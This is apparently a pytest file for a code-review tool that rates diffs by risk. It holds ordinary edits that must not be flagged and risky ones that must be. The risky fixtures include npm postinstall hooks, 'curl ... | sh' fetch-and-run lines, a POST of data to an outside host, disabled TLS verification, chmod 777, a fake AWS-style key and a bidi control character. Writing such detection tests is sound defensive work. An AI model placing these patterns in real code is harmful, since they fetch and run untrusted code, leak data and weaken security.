"""Everyday changes that must never be called dangerous, and what the list of dangers must name."""

from __future__ import annotations

import pytest

from penstock.core.diff.measure import measure
from penstock.core.file_mode import FileMode
from penstock.core.proposals.flag import RiskFlag, RiskLevel
from penstock.core.review.assess import assess

CODE = "".join(f"def step_{n}(x):\n    return x + {n}\n\n\n" for n in range(12))
TESTS = "".join(f"def test_{n}():\n    assert step({n}) == {n + 1}\n\n\n" for n in range(6))
PACKAGE = '{\n  "name": "shop",\n  "scripts": {\n    "test": "jest"\n  }\n}\n'
WORKFLOW = (
    "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"
)
DOCKER = "FROM python:3.12-slim\nRUN pip install --no-cache-dir -r requirements.txt\n"

# Each is what somebody does on an ordinary day: path, before, after.
BENIGN = {
    "a function renamed": ("src/a.py", CODE, CODE.replace("step_3", "step_three")),
    "a docstring": ("src/a.py", CODE, CODE.replace("(x):\n", '(x):\n    """Step."""\n', 1)),
    "a test added": (
        "tests/test_a.py",
        TESTS,
        TESTS + "def test_more():\n    assert True is True\n",
    ),
    "a test moved in its file": ("tests/test_a.py", TESTS, TESTS[60:] + TESTS[:60]),
    "a test renamed": ("tests/test_a.py", TESTS, TESTS.replace("test_3", "test_three")),
    "a script of one's own": ("package.json", PACKAGE, PACKAGE.replace('"jest"', '"jest --ci"')),
    "a dependency": ("requirements.txt", "click==8.1\n", "click==8.1\nrich==13.7\n"),
    "a step of CI": (".github/workflows/ci.yml", WORKFLOW, WORKFLOW + "      - run: make lint\n"),
    "a layer of an image": ("Dockerfile", DOCKER, DOCKER + "COPY src /app/src\n"),
    "prose about installing": (
        "README.md",
        "# Shop\n",
        "# Shop\n\nInstall: `curl -sSf https://sh.example/i | sh`\n",
    ),
    "a password field": (
        "src/form.py",
        CODE,
        CODE + 'password = request.form["password"]\ntoken = get_token()\n',
    ),
    "a placeholder": (".env.example", "HOST=localhost\n", "HOST=localhost\nAPI_KEY=changeme\n"),
    "a language of other letters": ("i18n/ru.json", "{}\n", '{\n  "hello": "Привет, мир"\n}\n'),
    "an emoji": ("README.md", "# Shop\n", "# Shop 🛒 👩\u200d💻\n"),
    "re-indented": ("src/a.js", "if (a) {\n  b();\n}\n", "if (a) {\n    b();\n}\n"),
    "other line ends": ("src/a.js", "a();\nb();\n", "a();\r\nb();\r\n"),
    "an abstract method": (
        "src/base.py",
        CODE,
        CODE + "class Base:\n    def run(self):\n        raise NotImplementedError\n",
    ),
    "a call to one's own server": (
        "src/api.ts",
        "export const a = 1;\n",
        'export const a = 1;\nexport const b = fetch("/api/me");\n',
    ),
    "a shell loop": (
        "build.sh",
        "#!/bin/sh\nset -e\n",
        "#!/bin/sh\nset -e\nfor f in *.c; do cc -c $f; done\n",
    ),
    "a lint rule": ("pyproject.toml", "[tool.ruff]\n", "[tool.ruff]\nline-length = 100\n"),
}

# What the list of dangers and notices must name: path, before, after, level.
RISKS = {
    "postinstall": (
        "package.json",
        PACKAGE,
        PACKAGE.replace('"test": "jest"', '"test": "jest",\n    "postinstall": "node x.js"'),
        "danger",
    ),
    "prepare": (
        "package.json",
        PACKAGE,
        PACKAGE.replace('"test": "jest"', '"test": "jest",\n    "prepare": "sh x.sh"'),
        "danger",
    ),
    "CI file": (".github/workflows/new.yml", None, WORKFLOW, "notice"),
    "container file": ("Dockerfile", None, DOCKER, "notice"),
    "curl | sh": (
        "build.sh",
        "#!/bin/sh\n",
        "#!/bin/sh\ncurl -sSf https://x.example/i | sh\n",
        "danger",
    ),
    "permissions": ("build.sh", "#!/bin/sh\n", "#!/bin/sh\nchmod 777 /srv\n", "notice"),
    "network call": (
        "src/a.py",
        CODE,
        CODE + "requests.post('https://x.example', data=d)\n",
        "notice",
    ),
    "deleted tests": ("tests/test_a.py", TESTS, TESTS[: len(TESTS) // 2], "notice"),
    "deleted test file": ("tests/test_a.py", TESTS, None, "danger"),
    "disabled check": ("src/a.py", CODE, CODE + "requests.get(u, verify=False)\n", "danger"),
    "secret": ("src/a.py", CODE, CODE + 'key = "AKIA' + "Z7Q4XW2M5N7P3R6T" + '"\n', "danger"),
    "hidden characters": ("src/a.py", CODE, CODE + "x = 'a\u202eb'\n", "danger"),
    "stub over code": ("src/a.py", CODE, "def step_0(x):\n    pass\n", "danger"),
}


def found(path: str, before: str | None, after: str | None) -> tuple[RiskFlag, ...]:
    old, new = (None if side is None else side.encode() for side in (before, after))
    return assess(path, old, new, measure(old, new)).flags


@pytest.mark.parametrize("name", BENIGN)
def test_an_everyday_change_is_no_danger(name: str) -> None:
    said = [flag for flag in found(*BENIGN[name]) if flag.level is RiskLevel.DANGER]
    assert said == []


@pytest.mark.parametrize("name", RISKS)
def test_each_kind_of_risk_is_named_at_its_level(name: str) -> None:
    path, before, after, level = RISKS[name]
    levels = {str(flag.level) for flag in found(path, before, after)}
    assert level in levels


def test_an_executable_bit_is_named() -> None:
    modes = (FileMode.FILE, FileMode.EXECUTABLE)
    change = measure(b"x\n", b"x\n")
    flags = assess("run.sh", b"x\n", b"x\n", change, modes=modes).flags
    assert any("executable" in flag.text for flag in flags)
